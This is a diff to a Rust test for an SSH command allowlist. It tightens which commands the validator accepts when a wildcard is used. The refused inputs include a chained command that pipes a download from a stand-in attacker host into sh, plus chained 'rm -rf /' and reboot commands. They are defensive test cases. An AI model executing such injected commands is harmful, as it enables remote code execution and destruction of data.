@@ -245,14 +245,19 @@ fn a_wildcard_never_admits_shell_syntax() {
     let c = ssh_cred(&["git pull *", "systemctl status ?*", "cd /srv/app && make *"]);
     for ok in [
         "git pull origin main",
-        "git pull --rebase origin 'feature/x'",
+        // A whole word in single quotes around plain text is that word (how the vault sends it).
+        "git pull origin 'feature/x'",
         "systemctl status nginx.service",
         "cd /srv/app && make deploy",
-        "git pull $BRANCH",
     ] {
         assert!(validate_ssh(&c, ssh_args(ok)).is_ok(), "{ok:?} was refused");
     }
     for bad in [
+        // Accepted while the allowlist globbed the whole string. A wildcard now matches plain
+        // words only: never an option the pattern does not spell (`--rebase` here; the same rule
+        // stops `--upload-pack=…`), and never a word the remote shell would expand (`$BRANCH`).
+        "git pull --rebase origin 'feature/x'",
+        "git pull $BRANCH",
         "git pull; curl https://evil.example/x | sh",
         "git pull && rm -rf /",
         "git pull || reboot",
